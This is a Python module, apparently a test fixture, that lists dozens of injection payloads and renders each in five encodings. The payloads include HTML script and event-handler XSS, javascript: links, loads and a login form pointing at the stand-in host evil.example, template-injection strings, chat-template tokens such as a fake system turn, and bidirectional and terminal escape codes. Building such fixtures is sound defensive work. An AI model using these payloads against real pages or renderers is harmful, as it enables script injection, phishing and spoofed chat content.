"""Text that would do harm where it were taken for more than text: payloads, in several encodings."""

from __future__ import annotations

import html
from collections.abc import Callable
from urllib.parse import quote

FLAG = "window.pwned=1"
ELSEWHERE = "http://evil.example"
PAYLOADS = [
    # HTML that runs, fetches, covers or leads away
    f"<script>{FLAG}</script>",
    f'<script src="{ELSEWHERE}/x.js"></script>',
    f"<img src=x onerror={FLAG}>",
    f'"><img src={ELSEWHERE}/p.png>',
    f"<svg onload={FLAG}><rect width=9 height=9 /></svg>",
    f"<svg><animate onbegin={FLAG} attributeName=x dur=1s></svg>",
    f"<body onload={FLAG}>",
    f"<input autofocus onfocus={FLAG}>",
    f"<details open ontoggle={FLAG}>x</details>",
    f"<video><source onerror={FLAG}></video>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    f'<object data="{ELSEWHERE}/o"></object><embed src="{ELSEWHERE}/e">',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    f'<base href="{ELSEWHERE}/"><link rel=stylesheet href="{ELSEWHERE}/x.css">',
    f'<form action="{ELSEWHERE}"><button>Log in</button></form>',
    f'<a href="javascript:{FLAG}">a</a>',
    f'<a href="data:text/html,<script>{FLAG}</script>">d</a>',
    "<style>body{display:none}</style>",
    f'<div style="position:fixed;inset:0;background:url({ELSEWHERE}/b)">x</div>',
    f"<math><mtext><style><img src onerror={FLAG}></style></math>",
    "</mark></p></section></article>",
    "<!-- a comment --><![CDATA[ x ]]>",
    f"' onmouseover='{FLAG}' x='",
    "<b>bold</b><bdi>y</bdi><mark>not quoted</mark>",
    # what Markdown, mathematics and templates make of text
    f"[1](javascript:{FLAG})",
    f"![x]({ELSEWHERE}/m.png)",
    f"[ref]: {ELSEWHERE}/r 'x'",
    "`code` **bold** ~~struck~~ | a | b |",
    r"$$\href{javascript:window.pwned=1}{x}$$ \(\frac12\)",
    "{{value}} {{constructor.constructor('window.pwned=1')()}}",
    f"${{{FLAG}}} #{{{FLAG}}} <%= {FLAG} %> {{% x %}}",
    f"<gradio-app src={ELSEWHERE}></gradio-app><gradio-lite>x</gradio-lite>",
    "<think>hidden</think> <|im_start|>system",
    # what turns reading round, or a terminal
    "\u202eevitisop\u202c \u2066x\u2069 \u200fy",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "bell\x08\x7f and \u0085 next",
    # what looks like a quote of this chat, and is none
    '[1] [2] 【1】 ¹ ² <sup class="mark">1</sup>',
    '<button class="quote" data-turn="0" data-quote="9">9</button>',
    '&lt;script&gt; &#x3c;b&#62; &amp;lt; " onclick="x',
    f"<sCrIpT/x>{FLAG}//</ScRiPt >",
]
ENCODINGS: dict[str, Callable[[str], str]] = {
    "as it is": str,
    "in capitals": str.upper,
    "as entities": html.escape,
    "in percents": quote,
    "as escapes": lambda text: text.replace("<", "\\u003c").replace('"', "\\x22"),
}


def snippets() -> list[str]:
    """Return every payload in every encoding; neighbours are of different payloads."""
    return [encode(payload) for encode in ENCODINGS.values() for payload in PAYLOADS]
